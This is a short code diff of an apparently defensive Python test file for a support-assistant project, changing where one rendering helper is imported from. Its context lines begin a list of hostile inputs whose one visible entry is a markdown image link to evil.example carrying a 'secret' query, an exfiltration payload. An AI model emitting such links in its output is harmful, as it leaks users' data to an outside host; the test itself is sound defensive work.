@@ -23,8 +23,8 @@ from assistant.rendering import (
 from assistant.review import describe_workflow, reply_review
 from assistant.schemas import Customer, ReplyDraft, Step, Ticket, Triage, WorkflowDraft
 from assistant.support.desk import QueueItem
-from assistant.web.chat import steps_table
 from assistant.web.desk import card
+from assistant.web.drafts import steps_table
 
 HOSTILE = [
     "![x](https://evil.example/?q=secret)",
